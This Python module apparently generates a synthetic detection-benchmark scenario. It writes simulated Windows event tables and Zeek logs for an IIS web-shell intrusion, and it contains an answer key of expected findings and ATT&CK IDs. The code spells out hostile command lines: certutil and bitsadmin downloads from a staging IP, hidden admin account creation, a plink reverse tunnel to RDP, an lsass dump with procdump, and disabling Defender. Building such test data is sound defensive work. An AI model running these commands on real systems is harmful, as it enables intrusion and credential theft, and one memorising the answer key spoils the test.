"""A web server made to run commands: page, download, account, tunnel, a second host. Log Analytics and Zeek."""

from __future__ import annotations

import json
import random
from datetime import timedelta
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import event_table, security_event
from .machine import CMD, PS, SYS32, SYSTEM_USER, Machine
from .noise import administrator, furnish, maintenance, ordinary

DAY = Day("2024-11-05")
INTRUDER, STAGE = "203.0.113.200", "203.0.113.9"
POOL = "IIS APPPOOL\\TrackingPool"
PAGE = "C:\\inetpub\\wwwroot\\tracking\\aspnet_client\\errorFE.aspx"


def _attack(m: Machine) -> None:
    at = DAY.at
    w3wp = m.procs["w3wp"]
    m.wrote(at("16:40:12"), w3wp, PAGE)
    for n, (clock, line) in enumerate(
        (
            ("16:41:00", "whoami"),
            ("16:41:20", "ipconfig /all"),
            ("16:41:50", 'net group "domain computers" /domain'),
            ("16:42:30", "tasklist"),
        )
    ):
        shell = m.start(at(clock), CMD, f'"cmd" /c cd /d "C:/inetpub/wwwroot/tracking"&{line}&echo [S]', w3wp)
        m.run(at(clock) + timedelta(milliseconds=90 + n), f"{SYS32}{line.split()[0]}.exe", line, shell)
        m.stop(at(clock) + timedelta(seconds=1), shell)
    shell = m.start(
        at("16:44:00"), CMD, f'"cmd" /c certutil -urlcache -split -f http://{STAGE}/p.exe C:\\ProgramData\\p.exe', w3wp
    )
    cert = m.start(
        at("16:44:00.2"),
        SYS32 + "certutil.exe",
        f"certutil  -urlcache -split -f http://{STAGE}/p.exe C:\\ProgramData\\p.exe",
        shell,
    )
    m.net(at("16:44:01"), cert, STAGE, 80)
    m.wrote(at("16:44:02"), cert, "C:\\ProgramData\\p.exe")
    m.stop(at("16:44:04"), cert)
    shell = m.start(at("16:46:00"), CMD, '"cmd" /c C:\\ProgramData\\p.exe -cmd "C:\\ProgramData\\x.bat"', w3wp)
    potato = m.start(
        at("16:46:00.2"), "C:\\ProgramData\\p.exe", 'C:\\ProgramData\\p.exe -cmd "C:\\ProgramData\\x.bat"', shell
    )
    m.pipe(at("16:46:00.5"), potato, "\\spoolss\\pipe\\4f1b")
    system = m.start(
        at("16:46:01"), CMD, "C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\x.bat", potato, SYSTEM_USER
    )
    m.run(at("16:46:10"), SYS32 + "net.exe", "net  user WebAdmin$ Qw3rty!x /add", system)
    m.security(
        at("16:46:10.2"),
        4720,
        SYSTEM_USER,
        TargetUserName="WebAdmin$",
        TargetDomainName=m.name,
        TargetSid="S-1-5-21-8-9-10-1044",
        SamAccountName="WebAdmin$",
    )
    m.run(at("16:46:12"), SYS32 + "net.exe", "net  localgroup administrators WebAdmin$ /add", system)
    m.security(
        at("16:46:12.2"),
        4732,
        SYSTEM_USER,
        MemberName="-",
        MemberSid="S-1-5-21-8-9-10-1044",
        TargetUserName="Administrators",
        TargetDomainName="Builtin",
        TargetSid="S-1-5-32-544",
    )
    bits = m.run(
        at("16:48:00"),
        SYS32 + "bitsadmin.exe",
        f"bitsadmin  /transfer upd /download /priority high http://{STAGE}/plink.exe C:\\Windows\\Temp\\plink.exe",
        system,
    )
    m.wrote(at("16:48:04"), m.procs["svchost"], "C:\\Windows\\Temp\\plink.exe")
    assert bits
    plink = m.start(
        at("16:49:00"),
        "C:\\Windows\\Temp\\plink.exe",
        f"C:\\Windows\\Temp\\plink.exe -ssh -P 443 -l tun -pw t {STAGE} -R 4489:127.0.0.1:3389 -N",
        system,
    )
    m.net(at("16:49:01"), plink, STAGE, 443)
    m.logon(at("16:50:20"), f"{m.name}\\WebAdmin$", 10, "127.0.0.1", package="Negotiate")
    desk = m.start(
        at("16:50:30"),
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        m.procs["winlogon"],
        f"{m.name}\\WebAdmin$",
        "High",
    )
    dump = m.start(
        at("16:52:00"),
        "C:\\Windows\\Temp\\pd64.exe",
        "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
        m.start(at("16:51:40"), CMD, f'"{CMD}"', desk),
        original="procdump",
    )
    m.accessed(at("16:52:00.6"), dump, m.procs["lsass"], "0x1fffff")
    m.wrote(at("16:52:01"), dump, "C:\\Windows\\Temp\\l.dmp")
    m.stop(at("16:52:05"), dump)
    ps = m.start(at("16:55:00"), PS, 'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"', system)
    m.script(at("16:55:00.6"), "Set-MpPreference -DisableRealtimeMonitoring $true", ps)
    m.stop(at("16:55:03"), ps)


def _zeek(folder: Path, dice: random.Random) -> None:
    flows = [("16:40:10", INTRUDER, "10.70.2.10", 443, 4102), *((c, INTRUDER, "10.70.2.10", 443, 900) for c in ("16:41:00", "16:41:20", "16:41:50", "16:42:30", "16:44:00", "16:46:00")),
             ("16:44:01", "10.70.2.10", STAGE, 80, 140), ("16:48:02", "10.70.2.10", STAGE, 80, 150), ("16:49:01", "10.70.2.10", STAGE, 443, 88000)]  # fmt: skip
    visitors = [
        (
            f"{t:%H:%M:%S}",
            f"198.18.{dice.randrange(200)}.{dice.randrange(1, 250)}",
            "10.70.2.10",
            443,
            dice.randrange(300, 4000),
        )
        for t in DAY.spread(dice, "16:00:00", "17:30:00", 260)
    ]
    rows, web = [], []
    for n, (clock, source, target, port, size) in enumerate(sorted(flows + visitors)):
        uid, ts = f"C{n:05d}x", round(DAY.at(clock).timestamp() + 0.0421, 4)
        rows.append(
            {
                "ts": ts,
                "uid": uid,
                "id.orig_h": source,
                "id.orig_p": 40000 + n,
                "id.resp_h": target,
                "id.resp_p": port,
                "proto": "tcp",
                "duration": 1.5,
                "orig_bytes": size,
                "resp_bytes": size * 7,
                "conn_state": "SF",
            }
        )
        if target != STAGE and (port == 443):
            page = (
                "/tracking/aspnet_client/errorFE.aspx"
                if source == INTRUDER
                else dice.choice(("/tracking/", "/tracking/find.aspx?id=81", "/static/site.css"))
            )
            method = "POST" if source == INTRUDER else "GET"
            web.append(
                {
                    "trans_depth": 1,
                    "ts": ts,
                    "uid": uid,
                    "id.orig_h": source,
                    "id.orig_p": 40000 + n,
                    "id.resp_h": target,
                    "id.resp_p": port,
                    "method": method,
                    "host": "track.freightco.test",
                    "uri": page,
                    "user_agent": "python-requests/2.31" if source == INTRUDER else "Mozilla/5.0",
                    "status_code": 200,
                    "request_body_len": size,
                    "response_body_len": size * 6,
                }
            )
        elif target == STAGE and port == 80:
            name = "/p.exe" if clock < "16:45" else "/plink.exe"
            web.append(
                {
                    "trans_depth": 1,
                    "ts": ts,
                    "uid": uid,
                    "id.orig_h": source,
                    "id.orig_p": 40000 + n,
                    "id.resp_h": target,
                    "id.resp_p": port,
                    "method": "GET",
                    "host": STAGE,
                    "uri": name,
                    "user_agent": "Microsoft-CryptoAPI/10.0" if name == "/p.exe" else "Microsoft BITS/7.8",
                    "status_code": 200,
                    "request_body_len": 0,
                    "response_body_len": 57344,
                    "resp_mime_types": ["application/x-dosexec"],
                }
            )
    (folder / "conn.log").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (folder / "http.log").write_text("".join(json.dumps(r) + "\n" for r in web))


def write(folder: Path) -> None:
    """Two tables of a workspace and two logs of a sensor."""
    dice = random.Random(511)
    m = Machine("FRT-WEB01", "10.70.2.10", "FREIGHT", "freight.test")
    other = Machine("FRT-SQL01", "10.70.2.11", "FREIGHT", "freight.test")
    for host in (m, other):
        furnish(host)
        ordinary(host, DAY, dice, "16:00:00", "17:30:00", 420)
    m.boot("w3wp", SYS32 + "inetsrv\\w3wp.exe", POOL, 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "TrackingPool"')
    for at in DAY.spread(dice, "16:00:00", "17:30:00", 14):  # the site compiles its pages
        m.run(
            at,
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
            '"csc.exe" /t:library /utf8output @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\tracking\\a1.cmdline"',
            m.procs["w3wp"],
        )
        m.wrote(at, m.procs["w3wp"], "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex241105.log")
    maintenance(other, DAY.at("16:20:00"))
    administrator(other, DAY.at("16:33:00"), "FREIGHT\\m.duarte", "10.70.2.90")
    _attack(m)
    (folder / "SecurityEvent.json").write_text(security_event(m, other), encoding="utf-8")
    (folder / "Event.json").write_text(event_table(m, other), encoding="utf-8")
    _zeek(folder, dice)


_FACTS: tuple[FactRow, ...] = (
    ("host", 2, ("frt-web01",)), ("intruder", 3, (INTRUDER,)), ("stage", 3, (STAGE,)), ("page", 3, ("errorfe.aspx",)),
    ("shell", 3, ("w3wp.exe & cmd",)), ("pool", 1, ("trackingpool",)), ("whoami", 2, ("whoami",)), ("computers", 1, ("domain computers",)),
    ("certutil", 3, ("certutil & p.exe",)), ("url", 2, (f"http://{STAGE}/p.exe", f"{STAGE}/p.exe")), ("tool", 2, ("p.exe",)),
    ("system", 2, ("p.exe & cmd.exe", "x.bat")), ("account", 3, ("webadmin$",)), ("admin", 2, ("webadmin$ & administrators",)),
    ("bits", 2, ("bitsadmin & plink.exe",)), ("plink", 3, ("plink.exe & 3389",)), ("tunnel", 2, (f"plink.exe & {STAGE}",)),
    ("rdp", 2, ("webadmin$ & 127.0.0.1",)), ("dump", 3, ("lsass & l.dmp", "lsass & pd64.exe")), ("dump_file", 2, ("l.dmp",)), ("defender", 2, ("disablerealtimemonitoring", "set-mppreference")),
)  # fmt: skip

SCENARIO = Scenario(
    "server", write,
    make_truth(
        "server", _FACTS, "page whoami certutil system account bits plink dump defender",
        "T1190 T1505.003 T1059.003 T1033 T1105 T1136.001 T1572 T1021.001 T1003.001 T1685 T1197",
        "T1059 T1059.001 T1016 T1018 T1057 T1069 T1069.002 T1087 T1087.002 T1098 T1098.007 T1134 T1134.001 T1134.002 T1068 T1140 T1562 T1562.001 T1071 T1071.001 "
        "T1090 T1078 T1078.003 T1036 T1564 T1570 T1069.001 T1087.001",
        ("2024-11-05T16:40:10Z", "2024-11-05T16:55:03Z"),
        ("csc.exe", "GoogleUpdate.exe", "142.250.72.99", "m.duarte", "10.70.2.90", "FRT-SQL01", "healthservice.exe", "10.31.0.40"),
        ("u_ex241105.log",),
    ),
)  # fmt: skip
